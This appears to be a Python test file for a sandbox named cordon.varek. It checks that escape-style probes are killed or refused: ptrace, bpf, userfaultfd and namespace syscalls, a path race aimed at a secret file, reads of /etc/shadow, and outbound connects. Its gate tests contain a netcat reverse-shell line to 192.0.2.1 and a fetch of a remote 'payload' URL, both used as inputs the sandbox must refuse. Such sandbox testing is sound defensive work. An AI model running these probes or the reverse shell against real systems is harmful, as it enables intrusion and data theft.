# SPDX-License-Identifier: MIT
"""Cases 28 to 64 of VAREK (its C Warden), written anew for cordon.varek: one row each, with the one outcome that it
must have. A payload prints HAPPENED if it succeeds. Each payload also runs outside the box, where it must succeed or
be refused by this host, so that no case passes because its payload is wrong. Cases that test VAREK's internals are
in NOT_OURS, with the reason."""
import os
import re
import socket
import subprocess
from typing import NamedTuple, Optional, Tuple

from cordon import varek
from support import BINARY, TIER
from varekcase import PYTHON, Case

ARM = os.uname().machine == "aarch64"
NUMBERS = {"ptrace": (101, 117), "bpf": (321, 280), "userfaultfd": (323, 282), "process_vm_readv": (310, 270), "pidfd_open": (434, 434),
           "pidfd_getfd": (438, 438), "perf_event_open": (298, 241), "clone": (56, 220), "unshare": (272, 97), "io_uring_setup": (425, 425),
           "getpid": (39, 172), "chroot": (161, 51)}
PRE = f"NR = {({name: two[ARM] for name, two in NUMBERS.items()})!r}\n" + '''
import ctypes, errno, mmap, os, socket, struct, tempfile, time
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *args):
    return libc.syscall(*(ctypes.c_long(a) if isinstance(a, int) else a for a in (NR.get(number, number), *args)))
def tell(got):
    print('HAPPENED' if got >= 0 else errno.errorcode[ctypes.get_errno()], flush=True)
def attempt(f):
    try: f(); print('HAPPENED')
    except OSError as e: print(errno.errorcode[e.errno])
'''
RACE = '''
secret = SECRET.encode()
fine = b'/tmp/' + (b'%d' % os.getpid()).ljust(len(secret) - 5, b'x')
with open(fine, 'w') as f: f.write('fine')
file = tempfile.TemporaryFile()  # not a memfd: without a cgroup its memory cannot be limited
file.truncate(4096)
shared = mmap.mmap(file.fileno(), 4096)
path = ctypes.addressof(ctypes.c_char.from_buffer(shared))
parent = os.getpid()
if os.fork() == 0:
    while not shared[4000] and os.getppid() == parent:
        shared[:len(secret)] = secret
        shared[:len(fine)] = fine
    os._exit(0)
seen, tries, end = {b'fine': 0, b's3cret': 0, b'': 0}, 0, time.monotonic() + 25
there = b's3cret' if os.path.exists(secret) else b''
while time.monotonic() < end and (tries < 20000 or not seen[b'fine'] or not seen[there]):
    tries += 1
    fd = libc.open(ctypes.c_void_p(path), 0)
    seen[os.read(fd, 16) if fd >= 0 else b''] += 1
    if fd >= 0: os.close(fd)
shared[4000] = 1
os.wait()
os.unlink(fine)
print('HAPPENED' if seen[b's3cret'] else 'ENOENT', seen[b'fine'] > 0)
'''
PTRACE = "tell(call('ptrace', 0, 0, 0, 0))"
BPF = "attr = struct.pack('IIII', 2, 4, 4, 1).ljust(72, b'\\0')\ntell(call('bpf', 0, attr, len(attr)))"
FAULTS = "tell(call('userfaultfd', os.O_CLOEXEC | 1))"
CLONE = "got = call('clone', 0x10000011, 0, 0, 0, 0)\nif got == 0: os._exit(0)\ntell(got)"
FOREIGN = "tell(call(0x40000000 | NR['getpid']))"
THREAD = "import threading\nt = threading.Thread(target=exec, args=(%r, globals()))\nt.start()\nt.join()"
KILLED = "seccomp_killlist_triggered"


class Row(NamedTuple):
    number: int
    what: str
    code: str
    said: str  # its output; empty if it is killed
    violation: Optional[str] = None
    denied: Tuple[str, ...] = ()


def killed(number: int, call: str, code: str, what: str = "") -> Row:
    return Row(number, what or call, code, "", KILLED, (call,))


def foreign(number: int, code: str) -> Row:
    """A call of the x32 ABI of x86_64. On another machine no system call has this number."""
    return Row(number, "a call of another ABI", code, "ENOSYS\n" if ARM else "", None if ARM else KILLED)


ROWS = [
    Row(29, "a path that changes while it is opened", RACE, "ENOENT True\n"),
    Row(30, "io_uring", "tell(call('io_uring_setup', 1, ctypes.create_string_buffer(120)))", "ENOSYS\n", KILLED, ("io_uring_setup",)),
    foreign(31, FOREIGN),
    killed(32, "ptrace", PTRACE),
    killed(33, "bpf", BPF),
    killed(34, "userfaultfd", FAULTS),
    killed(35, "process_vm_readv", "a, b = ctypes.create_string_buffer(8), ctypes.create_string_buffer(b's3cret', 8)\n"
           "v = [struct.pack('PN', ctypes.addressof(x), 8) for x in (a, b)]\ntell(call('process_vm_readv', os.getpid(), v[0], 1, v[1], 1, 0))"),
    killed(36, "pidfd_getfd", "tell(call('pidfd_getfd', call('pidfd_open', os.getpid(), 0), 1, 0))"),
    killed(37, "perf_event_open", "attr = struct.pack('IIQQQQQ', 1, 112, 0, 0, 0, 0, 0x61).ljust(112, b'\\0')\ntell(call('perf_event_open', attr, 0, -1, -1, 0))"),
    Row(38, "clone with a user namespace", CLONE, "EPERM\n", None, ("clone",)),
    Row(39, "unshare, a user namespace", "tell(call('unshare', 0x10000000))", "EPERM\n", KILLED, ("unshare",)),
    Row(40, "getpid works", "print(call('getpid') == os.getpid())", "True\n"),
    Row(41, "a socket works", "tell(libc.socket(1, 1, 0))", "HAPPENED\n"),
    # 42 to 46: the same calls in another thread, because a filter must hold for every thread.
    killed(42, "ptrace", THREAD % PTRACE, "ptrace in a thread"),
    killed(43, "bpf", THREAD % BPF, "bpf in a thread"),
    killed(44, "userfaultfd", THREAD % FAULTS, "userfaultfd in a thread"),
    Row(45, "clone with a user namespace in a thread", THREAD % CLONE, "EPERM\n", None, ("clone",)),
    foreign(46, THREAD % FOREIGN),
    Row(47, "a file where files may be", "with open('/tmp/47', 'w+') as f:\n f.write('x'); f.seek(0); print(f.read())\nos.unlink('/tmp/47')", "x\n"),
    Row(48, "/etc/shadow", "attempt(lambda: open('/etc/shadow').read())", "ENOENT\n"),
    Row(49, "a socket by its module", "a, b = socket.socketpair()\na.send(b'x')\nprint(b.recv(1))", "b'x'\n"),
    Row(50, "connect", "attempt(lambda: socket.create_connection(('127.0.0.1', PORT), 5))", "EPERM\n", None, ("socket",)),
]
GATE = {51, 53, 54, 55, 56, 57, 62}  # tested by the methods of Gate
NOT_OURS = {
    28: "shows the race of a supervisor that continues a call by its path; Cordon does not do that, and the control of 29 shows the race",
    52: "a plan is no argument of VAREK's Python API; cordon.plan: test_gate.py",
    58: "code that cleans data makes no conversation clean in Cordon: test_gate.py, docs/explanation/TRUST.md",
    59: "as 58: no redactor makes a conversation clean",
    60: "VAREK's API has the network whole or not at all; hosts by name: tests/cli/egress.bats",
    61: "as 60",
    63: "VAREK's breaker library; A12 shows that refused code stays refused",
    64: "VAREK's lint of its own policy directives, and its C units",
}
HOST_MAY_REFUSE = {"EPERM", "EACCES", "ENOSYS", "ENOENT", "EOPNOTSUPP"}


class Cases(Case):
    def setUp(self):
        super().setUp()
        self.secret = self.path("open", "secret")
        with open(self.secret, "w") as f:
            f.write("s3cret")
        self.server = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(self.server.close)
        self.server.settimeout(0.2)

    def code(self, row):
        return PRE + f"SECRET, PORT = {self.secret!r}, {self.server.getsockname()[1]}\n" + row.code

    def outside(self, row):
        done = subprocess.run([PYTHON, "-I", "-B", "-c", self.code(row)], stdout=subprocess.PIPE, timeout=60, text=True)
        return done.stdout.split()

    def test_all(self):
        """28 to 64: each case is a row or a test, or has a reason in NOT_OURS"""
        told = sorted([r.number for r in ROWS] + sorted(GATE) + sorted(NOT_OURS))
        self.assertEqual(told, list(range(28, 65)))
        self.assertEqual({int(n) for m in dir(Gate) for n in re.findall(r"(?<=_)\d\d", m)}, GATE)

    def test_rows(self):
        """28 to 50: no case succeeds, and the outcome names the call"""
        for row in ROWS:
            with self.subTest(row.number, what=row.what):
                o = self.run_code(self.code(row))
                signal = 31 if row.violation == KILLED and not row.said else None
                self.assertEqual((o.stdout.decode(), o.killed_by_signal, o.exit_code, o.violation), (row.said, signal, -31 if signal else 0, row.violation), o)
                self.assertEqual({d.call for d in o.denials} & set(row.denied), set(row.denied), o.denials)
        with self.assertRaises(OSError):
            self.server.accept()
        self.assertEqual(os.listdir(self.path("open")), ["secret"])

    def test_control(self):
        """28 to 50 outside the box: each succeeds, unless this host refuses it"""
        for row in ROWS:
            if 42 <= row.number <= 46:  # same calls as in 32 to 38; a traced thread is never reaped
                continue
            with self.subTest(row.number, what=row.what):
                said = self.outside(row)
                if row.number in (40, 47, 49):
                    self.assertEqual(" ".join(said) + "\n", row.said)
                elif row.number in (29, 50):
                    self.assertEqual(said[:1], ["HAPPENED"])
                else:
                    self.assertIn(said[0], HOST_MAY_REFUSE | {"HAPPENED"}, said)

    def test_chroot(self):
        """a call of VAREK's kill list that the box refuses without a kill is reported as killed"""
        o = self.run_code(PRE + "tell(call('chroot', b'/tmp'))")
        self.assertEqual((o.stdout, o.exit_code, o.violation), (b"EPERM\n", 0, KILLED))


class Gate(Case):
    OBEYS = "import urllib.request\nurllib.request.urlopen('https://metrics.example.net/payload')\nopen('/tmp/x', 'w')"

    def stopped(self, backend, code):
        with self.assertRaises(varek.KineticIntercept) as e:
            backend.execute(varek.ExecutionPayload(PYTHON, code), self.policy())
        result = e.exception.__cause__.result
        self.assertEqual((result.exit_code, result.layers, result.stdout), (None, (), b""))  # no box was made
        return result

    def test_51_refused_53_free(self):
        """51, 53: refused code starts nothing; other code needs no plan"""
        stock = varek.SeccompBpfBackend(binary=BINARY, tier=TIER, state=self.path("state"))
        self.assertEqual(self.stopped(stock, "import os\nos.system('nc -e /bin/bash 192.0.2.1 4444')").status, "refused")
        self.assertEqual(stock.execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy()).stdout, b"1\n")

    def test_54_policy(self):
        """54: an error in a policy names its file and line, and nothing runs"""
        with open(self.path("bad.yaml"), "w") as f:
            f.write("version: 2\nnonsense: [\n")
        with self.assertRaisesRegex(varek.IsolationError, r"bad\.yaml:\d"):
            self.make(policy=self.path("bad.yaml")).execute(varek.ExecutionPayload(PYTHON, "print(1)"), self.policy())

    def test_55_clean_56_direct_57_composed_62_unknown(self):
        """55, 56, 57, 62: clean, exposed and unknown code runs, and reaches no host"""
        self.says("print(sum([1, 2]))", "3\n")
        client = self.client(user=False, rules=[self.path("rules")])
        conversation = client.new_conversation()
        client.ingest("see https://metrics.example.net/payload", kind="web", name="http://a/", conversation=conversation)
        host = "metrics.example.net:443"
        for code, options, origin in ((self.OBEYS, {"conversation": conversation}, "derived"),
                                      ("print('other code')", {"conversation": conversation}, "exposed"), (self.OBEYS, {}, "exposed")):
            r = client.run(code, net=[host], **options)
            self.assertEqual((r.origin, [(e.outcome, e.done) for e in r.effects], r.egress), (origin, [("waits", False)], ()))
        o = self.run_code(self.OBEYS, network=True)  # the policy names no host
        self.assertEqual((o.exit_code, b"URLError" in o.stderr), (1, True), o.stderr)
